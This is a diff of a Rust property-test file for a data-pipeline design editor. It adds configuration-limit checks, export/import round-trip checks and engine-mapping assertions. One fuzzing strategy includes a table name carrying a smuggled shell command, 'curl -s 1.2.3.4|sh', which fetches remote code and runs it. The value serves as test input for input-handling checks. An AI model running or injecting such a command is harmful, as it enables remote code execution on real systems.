@@ -4,14 +4,16 @@
 use chrono::NaiveDate;
 use proptest::prelude::*;
 
+use partition_lab::design::file::{export, import};
 use partition_lab::design::graph::{Layer, StateChoice, WriteChoice};
+use partition_lab::design::limits::check_config;
 use partition_lab::design::{
     apply, compile, validate, Edit, EditError, Graph, History, NodeConfig, NodeId, NodeKind,
 };
 use partition_lab::engine::calendar::{days, shift};
 use partition_lab::engine::{
     simulate, AfterFinal, CommitOrder, ListDate, LogicVersion, MergeKey, PartitionKey,
-    WatermarkColumn,
+    ProcessingState, WatermarkColumn, WriteMode,
 };
 use partition_lab::labs::state_write::{monday, script, Controls};
 
@@ -235,11 +237,26 @@ fn each_structural_problem_is_named_on_its_node() {
         .iter()
         .any(|p| p.node == Some(backfill) && p.message.contains("no input")));
 
-    // A typo in a year asks for millennia: refused before anything runs.
+    // A year typed as 206 is outside the dates the inspector takes at all.
+    assert!(matches!(
+        b.edit(&Edit::Configure {
+            id: backfill,
+            config: NodeConfig::Backfill {
+                first: NaiveDate::from_ymd_opt(206, 8, 3).expect("date"),
+                last: day(13),
+                max_concurrency,
+                shape,
+                markers,
+                yield_to_scheduled,
+            },
+        }),
+        Err(EditError::OutOfLimits(_))
+    ));
+    // A typo within them asks for decades: refused before anything runs.
     b.edit(&Edit::Configure {
         id: backfill,
         config: NodeConfig::Backfill {
-            first: NaiveDate::from_ymd_opt(206, 8, 3).expect("date"),
+            first: NaiveDate::from_ymd_opt(2006, 8, 3).expect("date"),
             last: day(13),
             max_concurrency,
             shape,
@@ -304,6 +321,50 @@ fn any_kind() -> impl Strategy<Value = NodeKind> {
     prop::sample::select(NodeKind::PALETTE.to_vec())
 }
 
+/// Any node configuration, inside the inspector's limits or far outside.
+fn any_config() -> impl Strategy<Value = NodeConfig> {
+    let number = prop_oneof![0u32..80, Just(u32::MAX), any::<u32>()];
+    let name = prop_oneof![
+        Just("silver.orders".to_string()),
+        Just("silver.x;curl -s 1.2.3.4|sh;#".to_string()),
+        "[a-z_.]{0,70}",
+        "\\PC{0,8}",
+    ];
+    prop_oneof![
+        any_kind().prop_map(NodeConfig::default_for),
+        (name, any_write()).prop_map(|(table, mode)| NodeConfig::Write { table, mode }),
+        (number.clone(), any::<bool>()).prop_map(|(n, watermark)| NodeConfig::State {
+            state: if watermark {
+                StateChoice::Watermark {
+                    column: WatermarkColumn::UpdatedAt,
+                    overlap_minutes: n,
+                }
+            } else {
+                StateChoice::PartitionList {
+                    lookback: n,
+                    over: ListDate::EventDate,
+                }
+            },
+            commit: CommitOrder::StateAfterWrite,
+        }),
+        number.clone().prop_map(|n| NodeConfig::Finaliser {
+            allowed_lateness_days: n,
+            after_final: AfterFinal::Adjustments
+        }),
+        (number, -100_000i32..100_000, 0i32..40_000).prop_map(|(n, start, len)| {
+            let base = NaiveDate::from_ymd_opt(2026, 1, 1).expect("date");
+            NodeConfig::Backfill {
+                first: shift(base, i64::from(start)),
+                last: shift(base, i64::from(start) + i64::from(len)),
+                max_concurrency: n,
+                shape: partition_lab::design::graph::BackfillShape::PerDate,
+                markers: partition_lab::design::graph::Markers::AfterPartition,
+                yield_to_scheduled: false,
+            }
+        }),
+    ]
+}
+
 fn any_edit() -> impl Strategy<Value = Edit> {
     let id = (0u32..12).prop_map(NodeId);
     prop_oneof![
@@ -315,10 +376,7 @@ fn any_edit() -> impl Strategy<Value = Edit> {
         (id.clone(), any::<i32>(), any::<i32>()).prop_map(|(id, x, y)| Edit::Move { id, x, y }),
         (id.clone(), id.clone()).prop_map(|(from, to)| Edit::Connect { from, to }),
         (id.clone(), id.clone()).prop_map(|(from, to)| Edit::Disconnect { from, to }),
-        (id.clone(), any_kind()).prop_map(|(id, k)| Edit::Configure {
-            id,
-            config: NodeConfig::default_for(k)
-        }),
+        (id.clone(), any_config()).prop_map(|(id, config)| Edit::Configure { id, config }),
         id.prop_map(|id| Edit::Delete { id }),
     ]
 }
@@ -348,6 +406,14 @@ proptest! {
                 prop_assert!(e.from != e.to);
                 prop_assert!(from.map(|n| n.kind()).zip(to.map(|n| n.kind())).is_some_and(|(a, b)| a.feeds(b)));
             }
+            // Every setting is one the inspector could make, and the design
+            // comes back from its own file exactly: what the editor builds,
+            // the importer accepts.
+            for node in g.nodes.values() {
+                prop_assert_eq!(check_config(&node.config), Ok(()), "{:?}", node.config);
+            }
+            let back = import(&export(g, Some(1))).map(|f| f.graph);
+            prop_assert_eq!(back.as_ref(), Ok(g));
             // Validation and compilation never panic, whatever the graph.
             let _ = validate(g);
             let _ = compile(g);
@@ -381,7 +447,13 @@ proptest! {
         let at = (0..=at).rev().find(|i| good.is_char_boundary(*i)).unwrap_or(0);
         let mangled = format!("{}{}{}", &good[..at], insert, &good[at..]);
         if let Ok(file) = partition_lab::design::file::import(&mangled) {
-            // Whatever is accepted satisfies the model's invariants.
+            // Whatever is accepted is a design the editor could have made,
+            // and it re-exports to an equal design.
+            for node in file.graph.nodes.values() {
+                prop_assert_eq!(check_config(&node.config), Ok(()));
+            }
+            let again = import(&export(&file.graph, file.scenario)).expect("its own export imports");
+            prop_assert_eq!(again, file.clone());
             let _ = validate(&file.graph);
             let _ = compile(&file.graph);
         }
@@ -466,6 +538,19 @@ proptest! {
         if state.is_some() {
             prop_assert_eq!(p.commit == CommitOrder::StateBeforeWrite, before);
         }
+        let expected_state = match state.unwrap_or(StateChoice::None) {
+            StateChoice::Watermark { column, overlap_minutes } => ProcessingState::Watermark { column, overlap_minutes },
+            StateChoice::PartitionList { lookback, over } => ProcessingState::PartitionList { lookback, over },
+            StateChoice::None => ProcessingState::None,
+        };
+        prop_assert_eq!(p.state, expected_state);
+        let expected_write = match mode {
+            WriteChoice::Append => WriteMode::Append,
+            WriteChoice::OverwritePartition => WriteMode::OverwritePartition,
+            WriteChoice::Merge { key } => WriteMode::Merge { key: key.expect("the strategy picks a key") },
+            WriteChoice::ReplaceTable => WriteMode::ReplaceTable,
+        };
+        prop_assert_eq!(p.write, expected_write);
         let script = script(&Controls::default());
         let outcome = simulate(&p, &script);
         // Every planned run happened (a crash adds its retry).
